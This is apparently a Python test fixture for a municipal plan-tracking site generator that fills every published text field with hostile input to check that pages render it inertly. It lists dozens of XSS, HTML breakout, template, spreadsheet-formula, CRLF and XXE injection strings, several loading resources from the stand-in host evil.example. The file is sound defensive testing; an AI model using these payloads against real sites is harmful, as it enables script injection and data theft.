"""
Words that try to become something else: code, a request, a field of another format.

`records(say)` is a small history in which every text that staff or a plan can fill comes from
`say(number, place)`. Said with hostile words and with plain ones, both histories must be published
in the same shape, whatever the output: see `test_hostile_words.py`, and in a real browser
`tests/browser/test_hostile_words_in_chromium.py`.
"""

import re
from collections.abc import Callable
from datetime import date
from typing import Any, Final

from sync.core.presentable import presentable
from sync.model.progress import Status
from sync.model.record import SnapshotRecord
from sync.model.snapshot import (
    PublicAction,
    PublicAxis,
    PublicCorrection,
    PublicGoal,
    PublicIndicator,
    PublicPlan,
    PublicStanding,
    PublicVolet,
)
from sync.site.presentation import Presentation
from tests.site.snapshot_samples import END, MID, record_of, small

OUTSIDE: Final = "evil.example"
RUN: Final = "top.pwned=1"
"""What a vector does where it runs."""

VECTORS: Final = (
    # elements
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="//{OUTSIDE}/x.js"></script>',
    f"<script src=data:,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="http://{OUTSIDE}/pixel.gif">',
    f"<IMG\nSRC=x\nONERROR={RUN}>",
    "<img src=x onerror=&#116;&#111;&#112;.pwned=1>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=data:text/html,<script>{RUN}</script>></object>",
    f'<embed src="//{OUTSIDE}/x.swf">',
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN} autofocus tabindex=1 onfocus={RUN}>x</a>",
    f'<form action="http://{OUTSIDE}/"><button>x</button></form>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<meta http-equiv=refresh content="0;url=http://{OUTSIDE}/">',
    f'<base href="http://{OUTSIDE}/">',
    f'<link rel=stylesheet href="http://{OUTSIDE}/x.css">',
    f"<style>@import 'http://{OUTSIDE}/x.css';</style>",
    f"<style>*{{background:url(http://{OUTSIDE}/b.png)}}</style>",
    f"<marquee onstart={RUN}>",
    f"<x onpointerover={RUN} style=position:fixed;inset:0>x",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # out of where they stand
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea></select></svg><script>{RUN}</script>",
    f"]]><script>{RUN}</script><![CDATA[",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"x onmouseover={RUN} y=",
    f'"}});{RUN};//',
    f"';{RUN};//",
    f"\\';{RUN};//",
    f"${{{RUN}}}`;{RUN};//",
    # other spellings of the same
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"<\u200bscript>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
    f"<\u2028script>{RUN}</script>",
    # templates, formulas, other formats
    f"{{{{7*7}}}}{{% for x in range(9) %}}{{{{ {RUN} }}}}{{% endfor %}}{{# x #}}",
    "{0.__class__.__mro__}%(x)s%s{city}{plan}",
    f'=HYPERLINK("http://{OUTSIDE}/","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1",
    "\t=1+1",
    '",=1+1,"',
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:ajouté\r\nEND:VEVENT",
    f"x\r\nATTACH:http://{OUTSIDE}/x",
    "x\r\n\r\n<h1>Set-Cookie: a=b</h1>",
    "fin,;\\n:avec tout \"ce\" 'qui' compte",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'http://{OUTSIDE}/x'>]>&e;",
    f"<?xml-stylesheet href='http://{OUTSIDE}/x.xsl'?>",
    f"[x](javascript:{RUN}) ![x](http://{OUTSIDE}/x.png)",
    "*_`~# titre\n- liste\n> citation",
)
LINKS: Final = (
    f"https://exemple.org/?u=javascript:{RUN}&b=%22%3E%3Cscript%3E",
    "https://exemple.org/&quot;onfocus=x&#34;",
    "https://exemple.org/${x}{{7*7}}%0d%0aSet-Cookie:a",
)
"""Hostile addresses that are fit to be published all the same."""


def _texts() -> tuple[str, ...]:
    """
    Several vectors to a text, so that all of them in every field stay few actions; what counts
    only at a text's beginning begins one.
    """
    first = [one for one in VECTORS if one.strip()[0] in "=+-@＝*"]
    rest = [one for one in VECTORS if one not in first]
    together = [" ".join(rest[at : at + TOGETHER]) for at in range(0, len(rest), TOGETHER)]
    return tuple(map(presentable, (*first, *together)))


TOGETHER: Final = 5
TEXTS: Final = _texts()
"""Every vector, as a snapshot would have it."""
BREAKING_OUT: Final = 6
"""Texts that stand in what is said once: the plan's title, a checkpoint's, the city's name."""

Say = Callable[[int, str], str]
"""The words of one field: of which text, and where they stand."""


def hostile(number: int, place: str) -> str:
    """The place stands after it, so that no two fields are alike."""
    return f"{TEXTS[number]} {place}"


def plain(number: int, place: str) -> str:
    """Of as many lines and as different from the others, and that is all."""
    lines = TEXTS[number].split("\n")
    said = (f"mot {number} {n}" if one.strip() else one for n, one in enumerate(lines))
    return "\n".join(said) + f" {place}"


def records(say: Say) -> list[SnapshotRecord]:
    """Three snapshots: plain words, then others in every field, then others again."""
    return [
        record_of(_snapshot(1, date(2026, 2, 10), plain, "avant")),
        record_of(_snapshot(2, date(2026, 2, 24), say, "ensuite")),
        record_of(_snapshot(3, date(2026, 3, 24), say, "enfin")),
    ]


def presentation(say: Say) -> Presentation:
    """The city's own name is what the config says, and stands on every page."""
    name = _once(say, "ville")
    return Presentation(name, "https://www.ville.example/suivi/", others=("en",))


def _once(say: Say, place: str) -> str:
    at = range(len(TEXTS) - BREAKING_OUT, len(TEXTS))
    return " ".join(say(n, place) for n in (0, *at)).replace("\n", " ")


def _snapshot(number: int, day: date, say: Say, when: str) -> Any:
    everything = range(len(TEXTS))
    checkpoints = tuple(
        one.model_copy(update={"titre": _once(say, f"jalon {one.id} {when}")}) for one in (MID, END)
    )
    axes = tuple(
        PublicAxis(
            numero=axis + 1,
            titre=say(axis, f"axe {when}"),
            objectif=say(axis + 1, f"objectif {when}"),
            volets=tuple(
                PublicVolet(
                    id=f"{axis + 1}.{n + 1}",
                    titre=say(n, f"volet {when}"),
                    actions=(_action(n, f"A{axis + 1}-{n + 1:02}", number, say, when),),
                )
                for n in everything
                if n % 3 == axis
            ),
        )
        for axis in range(3)
    )
    return small(
        numero=number,
        etat_au=day,
        plan=PublicPlan(
            id="essai",
            titre=_once(say, f"plan {when}"),
            revision=number,
            adopte_le=date(2025, 11, 28),
        ),
        jalons=checkpoints,
        axes=axes,
    )


def _action(n: int, key: str, number: int, say: Say, when: str) -> PublicAction:
    def standing(checkpoint: str) -> PublicStanding:
        line = PublicIndicator(
            id=f"{key}-{checkpoint}-1",
            texte=say(n, f"indicateur {checkpoint} {when}"),
            cible=PublicGoal(genre="quantite", minimum=2, maximum=3, unite=say(n, f"unité {when}")),
            fait=number > 1,
            fait_le=date(2026, 2, 9) if number > 1 else None,
            quantite=number,
        )
        frozen: dict[str, Any] = {}
        if number > 1 and checkpoint == MID.id:
            motifs = [say(n, f"correction {turn}") for turn in range(2, number + 1)]
            frozen = {
                "etat_fige": Status.NOT_ACHIEVED,
                "fige_le": date(2026, 2, 20),
                "corrections": tuple(
                    PublicCorrection(etat=Status.ACHIEVED, le=date(2026, 2, 22), motif=motif)
                    for motif in motifs
                ),
            }
        return PublicStanding(
            indicateurs=(line,),
            faits=int(number > 1),
            attendus=1,
            etat=Status.ACHIEVED if number > 1 else Status.UNDER_WAY,
            selon="reglement",
            confirme=True,
            provisoire=False,
            regle_le=date(2026, 2, 9),
            motif=say(n, f"motif {when}"),
            **frozen,
        )

    return PublicAction(
        id=key,
        titre=say(n, f"titre {when}"),
        jalons={one.id: standing(one.id) for one in (MID, END)},
        direction=say(n, f"direction {when}"),
        note=say(n, f"note {when}"),
        preuve=LINKS[n % len(LINKS)] + f"#{number}",
    )


def without_policy(page: str) -> str:
    """The page without its own content policy: what escaping alone is worth."""
    return re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", page)
